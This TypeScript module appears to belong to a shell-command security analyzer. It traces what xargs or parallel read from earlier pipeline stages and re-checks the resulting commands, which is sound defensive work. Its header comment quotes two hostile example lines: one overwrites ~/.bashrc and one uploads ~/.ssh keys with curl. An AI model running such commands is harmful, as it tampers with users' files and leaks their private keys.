/**
 * What xargs (or parallel) reads, when the line shows it: `echo ~/.bashrc | xargs -I{} cp evil
 * {}` overwrites ~/.bashrc, `find ~/.ssh -type f | xargs -I% curl -T % URL` sends the keys. The
 * command it runs is also parsed with those words in place (each line for a replace string,
 * appended otherwise), besides being checked with its arguments unknown, so the input can only add
 * findings. Read from: the stage before (echo, printf of `%s`/`%b` lines, find, ls, realpath,
 * readlink, through cat, sort, uniq, head, tail or grep) or a here-string.
 */

import type { Facts, SimpleCommand, Word } from "../../facts/types.js";
import type { Nest, Origin } from "./types.js";
import { KNOWN } from "./table.js";
import { valuesQuiet } from "./value-uses.js";
import { literalText } from "./strings.js";
import { inertText, replacedIn } from "./inert.js";
import { holdsToken } from "./words.js";
import { stageBefore } from "./pipelines.js";
import { foundPaths, foundQuiet, type FoundPath } from "./found-files.js";

/** printf formats that print each argument as one item. */
const ITEM_FORMAT = /^%[sb](?:\\n|\\0| |\\t)+$/;
/** Stages that pass their input through as lines (some of them). */
const PASS_THROUGH: ReadonlySet<string> = new Set(["cat", "sort", "uniq", "head", "tail", "grep", "tee"]);
/** Commands that print the paths they are given. */
const PATH_PRINTERS: ReadonlySet<string> = new Set(["ls", "realpath", "readlink"]);
const RUNNERS: ReadonlySet<string> = new Set(["xargs", "parallel"]);

/** Stage `sc` of a pipeline (or a command fed a here-string), when it is (a wrapper of) xargs or parallel: parse its command again with what it reads. */
export function xargsInput(sc: SimpleCommand, facts: Facts, origin: Origin, nest: Nest): void {
  if (origin.depth > 2) return;
  const at = runnerAt(sc);
  if (at < 0) return;
  const here = sc.redirects.find((r) => r.op === "<<<" && r.target !== null)?.target;
  const items = here != null ? wordItems(here, facts) : inputOf(stageBefore(facts, sc), facts);
  if (items === null || items.length === 0) return;
  const argv = sc.argv.slice(at);
  const runner = KNOWN.get(baseName((argv[0] as Word).value))?.wrapper;
  const hit = runner?.(argv.map((w) => w.value));
  if (hit === undefined || hit === null || hit.inner >= argv.length) return;
  const inner = argv.slice(hit.inner);
  const raw = (w: Word): string => inertText(facts, w.start, w.end);
  const range: [number, number] = origin.range ?? [sc.start, sc.end];
  // parallel puts its input where {} is, or after the command.
  const replace = hit.replace ?? (baseName((argv[0] as Word).value) === "parallel" && inner.some((w) => holdsToken(w, "{}")) ? "{}" : undefined);
  if (replace === undefined) {
    for (const secretsOnly of [false, true]) {
      const some = items.filter((i) => i.secretsOnly === secretsOnly);
      if (some.length > 0) nest(`${inner.map(raw).join(" ")} ${some.map((i) => i.text).join(" ")}`, range, { ...origin, speculative: foundQuiet(valuesQuiet, { text: "", secretsOnly }) });
    }
    return;
  }
  for (const item of items) {
    const text = inner.map((w) => (holdsToken(w, replace) ? replacedIn(w, replace, item.text) : raw(w))).join(" ");
    nest(text, range, { ...origin, speculative: foundQuiet(valuesQuiet, item) });
  }
}

const baseName = (v: string): string => v.slice(v.lastIndexOf("/") + 1);

/** Where xargs or parallel is among the first words of `sc` (`xargs`, `sudo xargs`, `/usr/bin/xargs`), or -1. */
function runnerAt(sc: SimpleCommand): number {
  for (let k = 0; k < Math.min(sc.argv.length, 6); k++) {
    const w = sc.argv[k] as Word;
    if (w.dynamic !== null) return -1;
    if (RUNNERS.has(baseName(w.value))) return k;
  }
  return -1;
}

/**
 * A word's items as xargs reads them: split at the blanks of its text (`"/tmp/x $HOME/.key"` is
 * two), its run-time parts kept as expansions; a leading `~` as written.
 */
function wordItems(w: Word, facts: Facts): FoundPath[] {
  if (w.tilde) return [{ text: inertText(facts, w.start, w.end), secretsOnly: false }];
  const items: string[] = [];
  let cur = "";
  let pos = 0;
  const text = (s: string): void => {
    const parts = s.split(/\s+/);
    parts.forEach((p, k) => {
      if (k > 0 && cur !== "") {
        items.push(cur);
        cur = "";
      }
      cur += literalText(p);
    });
  };
  for (const [s, e] of w.dynamic ?? []) {
    text(w.value.slice(pos, s));
    cur += `"${w.value.slice(s, e)}"`;
    pos = e;
  }
  text(w.value.slice(pos));
  if (cur !== "") items.push(cur);
  return items.map((t) => ({ text: t, secretsOnly: false }));
}

/** The items a stage prints, as shell text, or null when the line does not show them. */
function inputOf(prev: SimpleCommand | undefined, facts: Facts): FoundPath[] | null {
  for (let hops = 0; prev !== undefined && hops < 8; hops++) {
    const argv = prev.argv;
    let k = 0;
    while (k < argv.length && (argv[k]?.value === "command" || argv[k]?.value === "builtin")) k++;
    const first = argv[k];
    if (first === undefined || first.dynamic !== null) return null;
    const name = baseName(first.value);
    const operands = argv.slice(k + 1);
    if (name === "echo") return operands.filter((w, j) => !(j === 0 && /^-[neE]+$/.test(w.value))).flatMap((w) => wordItems(w, facts));
    if (name === "printf") return ITEM_FORMAT.test(operands[0]?.value ?? "") ? operands.slice(1).flatMap((w) => wordItems(w, facts)) : null;
    if (name === "find") return foundPaths(argv.slice(k), facts);
    if (PATH_PRINTERS.has(name)) return operands.filter((w) => !w.value.startsWith("-")).flatMap((w) => wordItems(w, facts));
    // `echo ~/.bashrc | cat | xargs …`: what passes through is what came before.
    if (!PASS_THROUGH.has(name) || (name !== "grep" && operands.some((w) => !w.value.startsWith("-")))) return null;
    prev = stageBefore(facts, prev);
  }
  return null;
}
